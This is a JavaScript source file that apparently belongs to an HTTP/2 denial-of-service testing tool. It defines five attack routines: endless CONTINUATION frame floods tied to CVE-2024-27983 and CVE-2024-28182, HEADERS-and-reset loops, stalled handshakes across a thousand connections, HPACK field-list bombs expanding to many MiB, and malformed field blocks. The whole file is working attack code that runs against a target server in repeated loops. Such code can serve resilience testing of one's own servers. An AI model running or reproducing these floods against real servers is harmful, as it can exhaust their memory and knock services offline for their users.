/** Field blocks of HTTP/2 that never end, or become more than they are. */
import { once } from "node:events";
import { field, NEWEST } from "../wire/hpack.js";
import { connectBlock, FULL_FRAME, flag, frameType, headerFrames, http2Frame } from "../wire/http2.js";
import { describeTally, http2Crowd } from "../wire/http2-crowd.js";

/** @typedef {import("../attack.js").Attack} Attack */

const MIB = 1 << 20;

/** @type {Attack} */
export const continuationFlood = {
  name: "HTTP/2 CONTINUATION frames without end: empty, of one byte, and full",
  sources: ["CVE-2024-27983", "CVE-2024-28182", "budget: handshake bytes"],
  ...{ over: ["2.0"], connections: 30 },
  async run(context) {
    const { signal, target } = context;
    const payloads = [Buffer.alloc(0), Buffer.from([0x82]), field("x", Buffer.alloc(FULL_FRAME - 7, "v"))];
    const floods = payloads.map((payload) => {
      const one = http2Frame(frameType.continuation, flag.none, 1, payload);
      return Buffer.alloc(one.length * Math.ceil(65_536 / one.length), one);
    });
    let sent = 0;
    const tally = await http2Crowd(
      context,
      async (peer, index) => {
        const bytes = floods[index % floods.length] ?? Buffer.alloc(0);
        await peer.write(http2Frame(frameType.headers, flag.none, 1, connectBlock(target)), signal);
        while (await peer.write(bytes, signal)) sent += bytes.length;
      },
      { again: true },
    );
    return { seen: `${(sent / MIB).toFixed(1)} MiB taken on ${describeTally(tally)}` };
  },
};

/** @type {Attack} */
export const headersAndGone = {
  name: "HTTP/2 HEADERS without their end, and the TCP connection reset, in a loop",
  sources: ["CVE-2024-27983"],
  ...{ over: ["2.0"], connections: 50 },
  async run(context) {
    const { signal, target } = context;
    const start = http2Frame(frameType.headers, flag.none, 1, connectBlock(target));
    const more = http2Frame(frameType.continuation, flag.none, 1, field("x", Buffer.alloc(1000, "v")));
    const tally = await http2Crowd(
      context,
      async (peer) => {
        if (!(await peer.write(Buffer.concat([start, more]), signal))) return;
        const isGone = once(peer.socket, "close");
        if ("resetAndDestroy" in peer.socket && !target.secure) peer.socket.resetAndDestroy();
        else peer.socket.destroy();
        await isGone;
      },
      { again: true },
    );
    return { seen: `${tally.connections.toLocaleString("en")} connections` };
  },
};

/** @type {Attack} */
export const unfinishedHeaders = {
  name: "HTTP/2 connections that stop in the preface, behind it, or inside the HEADERS",
  sources: ["CVE-2023-43669", "budget: pending handshakes"],
  ...{ over: ["2.0"], connections: 1000 },
  async run(context) {
    const { signal, target } = context;
    const block = connectBlock(target);
    const tally = await http2Crowd(context, async (peer, index) => {
      if (index % 3 === 1) await peer.write(http2Frame(frameType.headers, flag.none, 1, block), signal);
      // A frame whose payload never comes in full
      if (index % 3 === 2)
        await peer.write(http2Frame(frameType.headers, flag.endHeaders, 1, block).subarray(0, 20), signal);
      await peer.over(signal);
    });
    return { seen: describeTally(tally) };
  },
};

/** @type {Attack} */
export const fieldListBombs = {
  name: "HTTP/2 field lists of 1 to 36 MiB, from 15 KiB where the table repeats them",
  sources: ["RFC 7541 §7.3", "budget: handshake bytes"],
  ...{ over: ["2.0"], connections: 30 },
  async run(context) {
    const { signal, target } = context;
    const usual = connectBlock(target);
    const stored = field("x", Buffer.alloc(3000, "v"), { stored: true });
    const blocks = [
      field("x", Buffer.alloc(MIB, "v")),
      Buffer.concat(Array.from({ length: 1024 }, () => field("x", Buffer.alloc(1024, "v")))),
      // Stored once and named 12,000 times (RFC 7541 §6.1)
      Buffer.concat([stored, Buffer.alloc(12_000, NEWEST)]),
      Buffer.concat(Array.from({ length: 20_000 }, (_, index) => field(`x${index}`, ""))),
    ];
    const tally = await http2Crowd(
      context,
      async (peer, index) => {
        const bytes = headerFrames(1, Buffer.concat([usual, blocks[index % blocks.length] ?? usual]));
        await peer.write(bytes, signal);
        const patience = AbortSignal.any([signal, AbortSignal.timeout(500)]);
        await peer.until(() => peer.answers > 0 || peer.resets.size > 0, patience);
      },
      { again: true },
    );
    return { seen: describeTally(tally) };
  },
};

/** @type {Attack} */
export const badFieldBlocks = {
  name: "HTTP/2 field blocks that cannot be decoded, or are no request",
  sources: ["RFC 7541 §5", "RFC 9113 §8.3", "RFC 8441 §4"],
  ...{ over: ["2.0"], connections: 60 },
  async run(context) {
    const { rng, signal, target } = context;
    const wrongFields = [
      { ":path": undefined },
      { ":path": "" },
      { ":authority": "" },
      { ":scheme": undefined },
      { ":protocol": "constructor" },
      { ":method": "GET" },
      { upgrade: "websocket" },
      { "Upper-Case": "x" },
      { ":unknown": "x" },
    ].map((fields) => connectBlock(target, fields));
    const wrongBytes = [
      Buffer.from([0x80]), // §6.1: index 0
      Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff, 0x7f]), // §5.1: an integer that overflows
      Buffer.from([0x3f, 0xff, 0xff, 0xff, 0x07]), // §6.3: a table larger than allowed
      Buffer.from([0x00, 0x81, 0xff]), // §5.2: Huffman padding that is EOS
      Buffer.from([0x00, 0x7f, 0xff, 0xff, 0x03]), // a string longer than the block
    ];
    const blocks = [...wrongFields, ...wrongBytes, Buffer.alloc(0)];
    const tally = await http2Crowd(
      context,
      async (peer) => {
        const block = blocks[Math.floor(rng() * blocks.length)] ?? Buffer.alloc(0);
        await peer.write(http2Frame(frameType.headers, flag.endHeaders, 1, block), signal);
        const patience = AbortSignal.any([signal, AbortSignal.timeout(500)]);
        await peer.until(() => peer.answers > 0 || peer.resets.size > 0, patience);
      },
      { again: true },
    );
    return { seen: describeTally(tally) };
  },
};
